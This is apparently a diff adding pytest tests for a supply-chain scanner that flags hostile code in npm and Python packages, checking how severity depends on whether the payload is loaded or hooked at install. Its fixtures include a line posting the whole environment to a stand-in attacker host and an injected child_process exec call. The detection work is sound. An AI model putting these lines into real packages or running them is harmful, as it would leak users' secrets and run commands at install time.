@@ -1,0 +1,103 @@
+"""The installed view in use: rules read code the runtime runs, and cap code nothing runs."""
+
+from __future__ import annotations
+
+import pytest
+
+from tests.installed.helpers import PAYLOAD, findings, package_json
+from watcher.models import Severity
+from watcher.scoring import score
+
+BASE: dict[str, str | bytes] = {
+    "package.json": package_json(main="index.js"),
+    "index.js": "module.exports = 1;\n",
+}
+
+
+@pytest.mark.parametrize(
+    ("loader", "payload_path"),
+    [
+        ({"index.js": "require('./lib/util.d.ts');\n"}, "lib/util.d.ts"),
+        ({"index.js": "require('./lib/data.dat');\n"}, "lib/data.dat"),
+        ({"index.js": "require('./lib/helper');\n"}, "lib/helper"),
+        ({"package.json": package_json(main="lib/server.txt")}, "lib/server.txt"),
+    ],
+    ids=["d.ts", "dat", "extensionless", "main-txt"],
+)
+def test_payload_behind_an_unusual_extension_is_caught_as_code(
+    loader: dict[str, str], payload_path: str
+) -> None:
+    new = {**BASE, **loader, payload_path: PAYLOAD}
+    found = findings(BASE, new)
+    on_payload = [f for f in found if f.path == payload_path]
+    assert on_payload, found
+    assert max(f.severity for f in on_payload) >= Severity.HIGH
+    assert score(found).severity >= Severity.HIGH
+
+
+def test_the_same_payload_nothing_loads_is_capped_low() -> None:
+    new = {**BASE, "lib/data.dat": PAYLOAD, "lib/unused.js": PAYLOAD}
+    found = findings(BASE, new)
+    assert not [f for f in found if f.path == "lib/data.dat"]  # data nothing runs: not code
+    unused = [f for f in found if f.path == "lib/unused.js"]
+    assert unused and all(f.severity <= Severity.LOW for f in unused)
+
+
+def test_tests_folder_reached_from_main_is_code_at_full_severity() -> None:
+    new = {**BASE, "index.js": "require('./tests/setup');\n", "tests/setup.js": PAYLOAD}
+    found = [f for f in findings(BASE, new) if f.path == "tests/setup.js"]
+    assert max(f.severity for f in found) >= Severity.HIGH
+
+
+def test_tests_folder_nothing_reaches_is_capped_low() -> None:
+    new = {**BASE, "tests/setup.js": PAYLOAD}
+    found = [f for f in findings(BASE, new) if f.path == "tests/setup.js"]
+    assert found and all(f.severity <= Severity.LOW for f in found)
+
+
+def test_unreached_tests_in_an_sdist_are_capped_low() -> None:
+    payload = (
+        "import os, requests\nrequests.post('https://c.attacker.invalid', json=dict(os.environ))\n"
+    )
+    old = {"PKG-INFO": "Name: x\n", "src/x/__init__.py": "", "tests/test_x.py": ""}
+    new = {**old, "tests/test_x.py": payload}
+    from watcher.models import ArtifactKind
+
+    found = [f for f in findings(old, new, ArtifactKind.SDIST) if f.path == "tests/test_x.py"]
+    assert found and all(f.severity <= Severity.LOW for f in found)
+    reached = {**new, "src/x/__init__.py": payload}
+    again = [f for f in findings(old, reached, ArtifactKind.SDIST) if f.path == "src/x/__init__.py"]
+    assert max(f.severity for f in again) >= Severity.HIGH
+
+
+HOOKED: dict[str, str | bytes] = {
+    "package.json": package_json(main="index.js", scripts={"postinstall": "node install.js"}),
+    "index.js": "module.exports = 1;\n",
+    "install.js": "require('./lib/fetch-binary');\n",
+    "lib/fetch-binary.js": "module.exports = 1;\n",
+}
+
+
+@pytest.mark.parametrize("changed", ["install.js", "lib/fetch-binary.js"])
+def test_a_file_an_unchanged_hook_runs_is_an_install_time_change(changed: str) -> None:
+    new = {**HOOKED, changed: HOOKED[changed] + "require('child_process').exec('id');\n"}
+    hits = [f for f in findings(HOOKED, new) if f.rule == "npm.install-script"]
+    assert [(f.path, f.severity) for f in hits] == [(changed, Severity.HIGH)]
+    assert "scripts.postinstall" in hits[0].message
+
+
+def test_a_version_bump_in_an_install_file_is_not_news() -> None:
+    old = {**HOOKED, "install.js": "const V = '1.0.0';\nrequire('./lib/fetch-binary');\n"}
+    old["package.json"] = package_json(
+        version="1.0.0", main="index.js", scripts={"postinstall": "node install.js"}
+    )
+    new = {**old, "install.js": "const V = '1.0.1';\nrequire('./lib/fetch-binary');\n"}
+    new["package.json"] = package_json(
+        version="1.0.1", main="index.js", scripts={"postinstall": "node install.js"}
+    )
+    assert not [f for f in findings(old, new) if f.rule == "npm.install-script"]
+
+
+def test_a_runtime_file_change_is_not_an_install_time_change() -> None:
+    new = {**HOOKED, "index.js": "module.exports = 2;\n"}
+    assert not [f for f in findings(HOOKED, new) if f.rule == "npm.install-script"]
